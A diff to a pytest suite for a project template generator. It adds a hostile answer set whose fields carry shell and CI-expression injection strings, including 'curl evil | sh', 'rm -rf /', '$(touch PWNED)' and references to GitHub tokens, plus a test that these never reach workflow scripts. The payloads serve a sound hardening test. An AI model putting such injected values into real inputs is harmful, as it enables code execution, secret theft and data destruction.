@@ -65,6 +65,18 @@ ANSWER_SETS: dict[str, dict[str, Any]] = {
         "data_path": "raw data/clientes 2024.csv",
         "time_column": "data_ref",
     },
+    # hardening case 16: shell metacharacters and expressions in every free-text answer
+    "hostile": {
+        "project_name": "churn $(touch PWNED) `id` ${{ github.token }}",
+        "package_name": "hostile_churn",
+        "description": "'; curl evil | sh; echo '\" ${{ secrets.GITHUB_TOKEN }} $HOME && rm -rf / #",
+        "ci_provider": "both",
+        "catalog_info": True,
+        "owner_email": "ops@corp.test",
+        "owner_name": "Eve ${{ github.event.issue.title }} \"; exit 1",
+        "data_path": "data/$(whoami).csv",
+        "target_column": "target`id`",
+    },
 }
 
 
@@ -171,6 +183,19 @@ def test_hadolint_is_clean(rendered: dict[str, Path], name: str) -> None:
     assert proc.returncode == 0 and not proc.stdout.strip(), show(proc)
 
 
+def test_case_17_the_base_image_pinned_by_digest_is_clean_under_hadolint(rendered: dict[str, Path],
+                                                                        tmp_path: Path) -> None:
+    text = (rendered["github"] / "Dockerfile").read_text(encoding="utf-8")
+    froms = re.findall(r"(?m)^FROM (\S+)", text)
+    assert froms and all(f == "${BASE_IMAGE}" for f in froms), "every stage is built on the overridable base"
+    default = re.search(r"(?m)^ARG BASE_IMAGE=(\S+)$", text).group(1)
+    pinned = text.replace(f"ARG BASE_IMAGE={default}", f"ARG BASE_IMAGE={default}@sha256:{'ab' * 32}")
+    (tmp_path / "Dockerfile").write_text(pinned, encoding="utf-8")
+    proc = run([tool("hadolint"), "--no-color", "Dockerfile"], tmp_path)
+    assert proc.returncode == 0 and not proc.stdout.strip(), show(proc)
+    assert re.search(r"(?m)^USER (?!root|0)\S+", text) and re.search(r"(?m)^HEALTHCHECK ", text)
+
+
 @pytest.mark.parametrize("name", github_sets())
 def test_actionlint_is_clean(rendered: dict[str, Path], name: str) -> None:
     root = rendered[name]
@@ -225,6 +250,25 @@ def test_gitlab_ci_gates_on_readiness_and_keeps_the_report(rendered: dict[str, P
     assert job["stage"] == "test" and job["variables"]["SHIPYARD_REQUIREMENT"].startswith("shipyard==")
     assert any(line.startswith("shipyard doctor . ") for line in job["script"])
     assert job["artifacts"]["when"] == "always" and job["artifacts"]["paths"] == ["shipyard-doctor.md"]
+
+
+def test_case_16_answers_with_shell_metacharacters_reach_scripts_only_through_env(rendered: dict[str, Path]) -> None:
+    a = answers("hostile")
+    hostile = [a["project_name"], a["description"], a["owner_name"], a["data_path"], a["target_column"],
+               "$(touch PWNED)", "${{ github.token }}", "${{ secrets.GITHUB_TOKEN }}", "`id`"]
+    root = rendered["hostile"]
+    flows = workflows(root)
+    assert flows
+    for wf in flows:
+        for job in load_yaml(wf)["jobs"].values():
+            for step in job.get("steps", []):
+                script = step.get("run", "")
+                assert not [h for h in hostile if h in script], (wf.name, step.get("name"), script)
+    gitlab = load_yaml(root / ".gitlab-ci.yml")
+    for name, job in gitlab.items():
+        if isinstance(job, dict) and "script" in job:
+            text = "\n".join(job["script"])
+            assert not [h for h in hostile if h in text], (name, text)
 
 
 @pytest.mark.parametrize("name", list(ANSWER_SETS))
